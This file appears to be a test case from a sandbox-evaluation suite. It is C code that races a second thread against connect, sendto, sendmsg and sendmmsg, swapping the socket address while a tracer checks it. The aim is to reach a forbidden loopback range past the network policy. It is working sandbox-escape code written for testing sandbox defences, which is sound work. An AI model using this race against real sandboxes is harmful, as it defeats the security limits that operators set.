/* attack
class: policy
aim: call
race: true
expect: { none: contained, process: gap, mpk: contained }
gap: a tracer judges the address before the kernel copies it
source: pku-pitfalls
variants:
  - { args: [connect], tries: "the address changes while connect is judged" }
  - { args: [sendto], tries: "the address changes while sendto is judged" }
  - { args: [sendmsg], tries: "the address, or where it is, changes while sendmsg is judged" }
  - { args: [sendmmsg], tries: "the address of a later message changes while sendmmsg is judged" }
*/
/* The policy forbids to speak to 127.66.0.0/16. Another thread changes the address all the time; a server there says whether somebody came. */
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sys/socket.h>
static struct sockaddr_in name, good, bad;
static struct msghdr message;
static volatile int stop;
static void *flips(void *unused) {
    volatile in_addr_t *address = &name.sin_addr.s_addr;
    void *volatile *where = &message.msg_name;
    while (!stop) {
        *address = bad.sin_addr.s_addr;
        *where = &bad;
        for (volatile int i = 0; i < 30; i++) {}
        *address = good.sin_addr.s_addr;
        *where = &name;
        for (volatile int i = 0; i < 30; i++) {}
    }
    return unused;
}
int main(int argc, char **argv) {
    const char *how = argc > 1 ? argv[1] : "connect";
    int stream = strcmp(how, "connect") == 0, kind = stream ? SOCK_STREAM : SOCK_DGRAM;
    int server = socket(AF_INET, kind | SOCK_NONBLOCK, 0);
    bad = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f420001)};
    socklen_t bytes = sizeof bad;
    if (bind(server, (void *)&bad, sizeof bad) || getsockname(server, (void *)&bad, &bytes) || (stream && listen(server, 64))) not_here("there is no loopback interface");
    good = bad;
    good.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    name = good;
    message.msg_namelen = sizeof name;
    message.msg_name = &name;
    pthread_t thread;
    pthread_create(&thread, NULL, flips, NULL);
    int reached = 0;
    int client = socket(AF_INET, SOCK_DGRAM, 0);
    for (int i = 0; i < 3000 && !reached; i++) {
        struct iovec one = {"x", 1};
        message.msg_iov = &one, message.msg_iovlen = 1;
        if (stream) {
            int fd = socket(AF_INET, SOCK_STREAM, 0);
            connect(fd, (void *)&name, sizeof name);
            close(fd);
            int got = accept(server, NULL, NULL);
            if (got >= 0) reached = 1;
        } else if (strcmp(how, "sendto") == 0) sendto(client, "x", 1, MSG_DONTWAIT, (void *)&name, sizeof name);
        else if (strcmp(how, "sendmsg") == 0) syscall(SYS_sendmsg, client, &message, MSG_DONTWAIT);
        else {
            struct mmsghdr two[2] = {{.msg_hdr = {.msg_name = &good, .msg_namelen = sizeof good, .msg_iov = &one, .msg_iovlen = 1}}, {.msg_hdr = {.msg_name = &name, .msg_namelen = sizeof name, .msg_iov = &one, .msg_iovlen = 1}}};
            syscall(SYS_sendmmsg, client, two, 2, MSG_DONTWAIT);
        }
        char byte;
        if (!stream) reached = recv(server, &byte, 1, MSG_DONTWAIT) == 1;
    }
    stop = 1;
    pthread_join(thread, NULL);
    errno = 0;
    verdict(reached);
}
